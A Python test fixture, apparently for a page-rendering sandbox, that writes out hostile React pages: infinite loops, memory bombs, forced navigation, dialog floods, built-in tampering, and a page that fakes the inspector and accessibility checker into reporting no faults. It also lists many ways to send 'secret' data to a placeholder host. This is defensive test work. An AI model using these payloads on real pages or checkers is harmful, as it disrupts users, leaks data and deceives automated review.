"""Pages that hurt: each with what must be recorded of it. Text only; knows nothing of how a page is visited.

`fatal` is the kind of end, "" for a page that can still be read; several where it depends on what gives way first.
`holds` must be found in the evidence as JSON.
"""

from __future__ import annotations

from dataclasses import dataclass

HEAD = 'import { useEffect, useState } from "react";\n'
SHOWN = "<main><h1>Still here</h1></main>"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One page, written as the body of its module."""

    source: str
    fatal: str
    holds: tuple[str, ...] = ()


def _effect(code: str, shown: str = SHOWN) -> str:
    return f"{HEAD}export default function Page() {{ useEffect(() => {{ {code} }}, []); return {shown}; }}"


def _import(code: str) -> str:
    return f"{HEAD}{code}\nexport default function Page() {{ return {SHOWN}; }}"


def _render(code: str, shown: str = SHOWN) -> str:
    return f"{HEAD}export default function Page() {{ const [n, set] = useState(0); {code}; return {shown}; }}"


PAGES: dict[str, Hostile] = {
    # loops
    "loops-in-render": Hostile(_render("for (;;) {}"), "hang"),
    "loops-in-an-effect": Hostile(_effect("for (;;) {}"), "hang"),
    "loops-at-import": Hostile(_import("for (;;) {}"), "hang"),
    "loops-in-a-timer": Hostile(_effect("setTimeout(() => { for (;;) {} }, 300)"), "hang"),
    "loops-in-microtasks": Hostile(_effect("const f = () => Promise.resolve().then(f); f()"), "hang"),
    "renders-for-ever": Hostile(_render("set(n + 1)"), "", ("Too many re-renders",)),
    "ticks-for-ever": Hostile(_effect("const f = () => setTimeout(f, 0); f()"), "", ("Still here",)),
    "animates-for-ever": Hostile(_effect("const f = () => requestAnimationFrame(f); f()"), "", ("Still here",)),
    # memory
    "allocates-objects": Hostile(_effect("const a = []; for (;;) a.push(new Array(1e5).fill(a.length))"), "crash"),
    "allocates-buffers": Hostile(_effect("const a = []; for (;;) a.push(new Uint8Array(1e7).fill(1))"), "too-large"),
    "renders-100-mb": Hostile(_render("", '<p>{"x".repeat(1e8)}</p>'), "too-large"),
    "renders-100-mb-in-a-field": Hostile(
        _render("", '<input aria-label="A" defaultValue={"x".repeat(1e8)} />'), "hang or too-large"
    ),
    "renders-60000-elements": Hostile(
        _render("", "<ul>{Array.from({ length: 60000 }, (_, i) => <li key={i} />)}</ul>"), "too-large"
    ),
    "logs-100-mb": Hostile(_effect('console.error("x".repeat(1e8))'), "", ("xxx…", "Still here")),
    "throws-100-mb": Hostile(
        _effect('setTimeout(() => { throw new Error("x".repeat(1e8)) })'), "", ("xxx", "Still here")
    ),
    "logs-thousands-of-lines": Hostile(
        _effect('for (let i = 0; i < 50000; i++) console.error("line " + i)'), "", ("more than 1000", "Still here")
    ),
    "throws-thousands-of-errors": Hostile(
        _effect('for (let i = 0; i < 5000; i++) setTimeout(() => { throw new Error("e" + i) })'),
        "",
        ("Error: e", "Still here"),
    ),
    # leaving
    "closes-itself": Hostile(_effect("window.close()"), "closed"),
    "goes-away": Hostile(_effect('location.href = "http://elsewhere.test/"'), "navigated", ("elsewhere.test",)),
    "goes-away-at-import": Hostile(
        _import('location.replace("http://elsewhere.test/")'), "navigated", ("elsewhere.test",)
    ),
    "reloads": Hostile(_effect("location.reload()"), "navigated"),
    "sends-a-form": Hostile(
        _effect(
            "document.forms[0].submit()",
            '<form action="http://elsewhere.test/" method="post"><h1>Still here</h1></form>',
        ),
        "navigated",
        ("elsewhere.test",),
    ),
    "clicks-a-link": Hostile(
        _effect('document.querySelector("a").click()', '<a href="http://elsewhere.test/">Still here</a>'),
        "navigated",
        ("elsewhere.test",),
    ),
    "goes-to-a-blob": Hostile(
        _effect('location.href = URL.createObjectURL(new Blob(["<p>other</p>"], { type: "text/html" }))'), "navigated"
    ),
    "changes-the-hash": Hostile(
        _effect('location.hash = "#there"; history.pushState(null, "", "/other")'), "", ("Still here",)
    ),
    "opens-windows": Hostile(
        _effect('for (let i = 0; i < 20; i++) window.open("http://elsewhere.test/" + i)'), "", ("Still here",)
    ),
    "downloads": Hostile(
        _effect('const a = document.createElement("a"); a.href = "data:text/plain,x"; a.download = "x.txt"; a.click()'),
        "",
        ("Still here",),
    ),
    # dialogs
    "asks": Hostile(
        _effect('alert("one"); confirm("two"); prompt("three")'),
        "",
        ("alert: one", "confirm: two", "prompt: three", "Still here"),
    ),
    "asks-for-ever": Hostile(_effect('for (;;) alert("again")'), "hang", ("alert: again",)),
    "will-not-go": Hostile(
        _effect('addEventListener("beforeunload", (e) => { e.preventDefault(); e.returnValue = "no" })'),
        "",
        ("Still here",),
    ),
    # tampering
    "breaks-the-built-ins": Hostile(
        _import(
            "JSON.stringify = Array.prototype.map = Array.prototype.push = String.prototype.slice = Promise.prototype.then = () => { throw new Error('broken') };"
        ),
        "",
        (),
    ),
    "forges-what-is-read": Hostile(
        _effect(
            'for (const name of ["innerText", "textContent"]) Object.defineProperty(HTMLElement.prototype, name, { get: () => "forged" });'
            'Object.defineProperty(HTMLInputElement.prototype, "value", { get: () => "forged" });'
            'globalThis.look = { read: () => ({ mounted: true, text: "forged" }) }; globalThis.axe = { run: async () => ({ violations: [] }) };'
            "document.createTreeWalker = document.querySelectorAll = document.getElementById = () => { throw 1 };",
            '<main><h1>Still here</h1><img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" /></main>',
        ),
        "",
        ("Still here", "image-alt"),
    ),
    "silences-the-console": Hostile(
        _effect('console.error = () => {}; Reflect.deleteProperty(console, `warn`); console.error("I am heard")'),
        "",
        ("I am heard", "Still here"),
    ),
    "breaks-its-clock": Hostile(
        _effect(
            "setTimeout = requestAnimationFrame = Date = undefined; Reflect.deleteProperty(globalThis, `vektosClock`)"
        ),
        "",
        ("Still here",),
    ),
    "removes-the-body": Hostile(_effect("document.body.remove()"), "", ()),
    "removes-the-document": Hostile(_effect("document.documentElement.remove()"), "", ()),
    "writes-the-document": Hostile(
        _effect('document.open(); document.write("<p>other</p>"); document.close()'), "", ()
    ),
    "throws-from-getters": Hostile(
        _effect(
            "console.error({ get constructor() { throw 1 }, toString() { throw 2 } }); throw { get message() { throw 3 } }"
        ),
        "",
        ("cannot be shown",),
    ),
    # company
    "starts-workers": Hostile(
        _effect('for (let i = 0; i < 8; i++) new Worker(URL.createObjectURL(new Blob(["for (;;) {}"])))'),
        "",
        ("Still here",),
    ),
    "fills-frames": Hostile(
        _effect(
            'for (let i = 0; i < 5; i++) { const f = document.createElement("iframe"); f.title = "f"; f.srcdoc = "<script>for (;;) {}</script>"; document.body.append(f) }'
        ),
        "hang",
    ),
}

NETWORK = """
const base = "BASE";
const url = (how: string) => base + "/" + how;
const tries: (() => unknown)[] = [
  () => fetch(url("fetch")).catch(() => {}),
  () => { const x = new XMLHttpRequest(); x.open("GET", url("xhr")); x.send(); },
  () => navigator.sendBeacon(url("beacon"), "secret"),
  () => fetch(url("keepalive"), { method: "POST", body: "secret", keepalive: true, mode: "no-cors" }).catch(() => {}),
  () => { new Image().src = url("image"); },
  () => new WebSocket(url("socket").replace("http", "ws")),
  () => new EventSource(url("events")),
  () => { const s = document.createElement("script"); s.src = url("script"); document.head.append(s); },
  () => { const l = document.createElement("link"); l.rel = "stylesheet"; l.href = url("style"); document.head.append(l); },
  () => { const l = document.createElement("link"); l.rel = "preconnect"; l.href = base; document.head.append(l); },
  () => { const f = document.createElement("iframe"); f.title = "f"; f.src = url("frame"); document.body.append(f); },
  () => { const a = document.createElement("audio"); a.src = url("audio"); a.load(); },
  () => new Worker(URL.createObjectURL(new Blob([`fetch("${url("worker")}"); new WebSocket("${url("worker-socket").replace("http", "ws")}")`]))),
  () => navigator.serviceWorker?.register("/sw.js").catch(() => {}),
  () => window.open(url("window")),
  () => { const r = new RTCPeerConnection({ iceServers: [{ urls: base.replace("http://", "stun:") }] }); r.createDataChannel("d"); void r.createOffer().then((o) => r.setLocalDescription(o)); },
  () => document.body.style.setProperty("background-image", `url(${url("background")})`),
  () => import(/* @vite-ignore */ url("module")).catch(() => {}),
];
for (const attempt of tries) { try { attempt(); } catch { /* refused is as good as blocked */ } }
"""
